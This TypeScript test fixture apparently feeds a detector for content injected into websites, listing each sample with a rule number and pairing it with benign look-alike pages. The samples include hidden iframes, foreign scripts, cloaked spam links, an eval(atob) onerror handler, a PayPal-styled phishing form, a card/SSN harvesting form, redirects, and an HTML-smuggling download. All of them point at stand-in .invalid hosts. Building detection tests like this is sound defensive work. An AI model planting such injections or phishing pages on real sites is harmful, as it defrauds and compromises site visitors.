import { base64, word } from '../script/js/hostileScripts.ts'

/** Pages in the shape of those that are put into sites; their hosts are in `.invalid`. */
const host = 'pages.hf-test.invalid'

/** A page of a site, with something put before it, at the end of its body, and behind it. */
export function pageWith(parts: {
  readonly before?: string
  readonly inside?: string
  readonly after?: string
}): string {
  return [
    parts.before ?? '',
    '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Garden shop</title>\n',
    '<link rel="stylesheet" href="/style.css">\n<script>var hfTest = { page: 1 };</script>\n</head>\n<body>\n',
    '<nav style="display:none"><a href="/a">A</a><a href="/b">B</a></nav>\n',
    '<h1>Roses &amp; more</h1>\n<p>Read <a href="https://en.wikipedia.org/wiki/Rose">about roses</a>.</p>\n',
    '<form action="/search" method="get"><input name="q"></form>\n',
    parts.inside ?? '',
    '</body>\n</html>\n',
    parts.after ?? '',
  ].join('')
}

const hiddenFrame = `<${word('if', 'rame')} src="http://${host}/in.php" width="1" height="1" style="visibility:hidden"></${word('if', 'rame')}>`
const foreignElement = `<script src="//${host}/hf_test.js"></script>`
const pill = word('via', 'gra')
const spamLinks = `<div style="position:absolute;left:-9999px"><a href="http://${host}/1">buy ${pill}</a> <a href="http://b.${host}/2">cheap ${pill}</a></div>`
const handlerImage = `<img src="x" onerror="${word('ev', 'al')}(${word('at', 'ob')}('${base64("console.log('hf_test')")}'))">`
const linksOfMany = Array.from(
  { length: 6 },
  (_none, index) => `<a href="http://n${index}.${host}/">n</a>`,
).join('')

/** What stands in a page and is cut out of it, and the rule that says so. */
export const insertions: readonly {
  readonly rule: number
  readonly place: 'before' | 'inside' | 'after'
  readonly text: string
}[] = [
  { rule: 2600, place: 'before', text: hiddenFrame },
  { rule: 2600, place: 'after', text: hiddenFrame },
  { rule: 2600, place: 'inside', text: hiddenFrame.replace(host, '203.0.113.9') },
  { rule: 2601, place: 'before', text: foreignElement },
  { rule: 2602, place: 'inside', text: spamLinks },
  { rule: 2602, place: 'after', text: spamLinks },
  { rule: 2611, place: 'inside', text: handlerImage },
  { rule: 2630, place: 'inside', text: hiddenFrame },
  { rule: 2631, place: 'after', text: foreignElement },
  { rule: 2632, place: 'inside', text: `<div style="display:none">${linksOfMany}</div>` },
]

/** Pages that are nothing else. */
export const wholePages: readonly { readonly rule: number; readonly text: string }[] = [
  {
    rule: 2604,
    text: `<!-- saved from url=(0022)https://www.${word('pay', 'pal')}.com/signin -->\n<html><head><title>Log in</title></head><body><form action="next.php" method="post"><input name="email"><input type="password" name="pass"></form></body></html>`,
  },
  {
    rule: 2605,
    text: `<html><head><title>${word('Hack', 'ed')} by hf_test</title></head><body>greetz</body></html>`,
  },
  {
    rule: 2606,
    text: `<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href='http://${host}/'</script></svg>`,
  },
  {
    rule: 2607,
    text: '<html><body><form action="a.php"><input name="cardnumber"><input name="cvv"><input name="ssn"></form></body></html>',
  },
  {
    rule: 2633,
    text: `<html><head><meta http-equiv="refresh" content="0; url=http://${host}/"></head></html>`,
  },
  {
    rule: 2634,
    text: `<html><head><title>Shop</title></head><body>${pill} ${word('cia', 'lis')} ${word('levi', 'tra')} online casino slot gacor</body></html>`,
  },
  {
    rule: 2635,
    text: `<html><body><script>var d=atob('${'QUJD'.repeat(1000)}');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d]));a.download='hf_test.zip';a.click()</script></body></html>`,
  },
  {
    rule: 2636,
    text: `<html><head><title>Sign in</title></head><body><form action="https://${host}/p"><input type="password" name="p"></form></body></html>`,
  },
]

/** Usual pages. */
export const harmlessPages: readonly string[] = [
  pageWith({}),
  pageWith({
    inside:
      '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>',
  }),
  pageWith({ inside: '<iframe src="https://video.example.org/e/1" width="560" height="315"></iframe>' }),
  pageWith({
    inside:
      '<div style="display:none"><a href="https://www.facebook.com/s">f</a><a href="https://twitter.com/s">t</a></div>',
  }),
  pageWith({ inside: '<a class="skip" style="position:absolute;left:-9999px" href="#main">Skip</a>' }),
  pageWith({ inside: `<script src="https://static.${host}/shop.js"></script>` }),
  '<?php if (!defined("ABSPATH")) exit; ?>\n<form action="login.php" method="post"><input type="password" name="pwd"></form>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>document.querySelector("path").setAttribute("d","M0 0")</script></svg>',
  '<html><head><meta http-equiv="refresh" content="0; url=/new/"></head></html>',
  'body { color: red } /* <b>not a page</b> */',
  `var a = '<iframe src="http://${host}/" width="1" height="1"></iframe>'`,
]
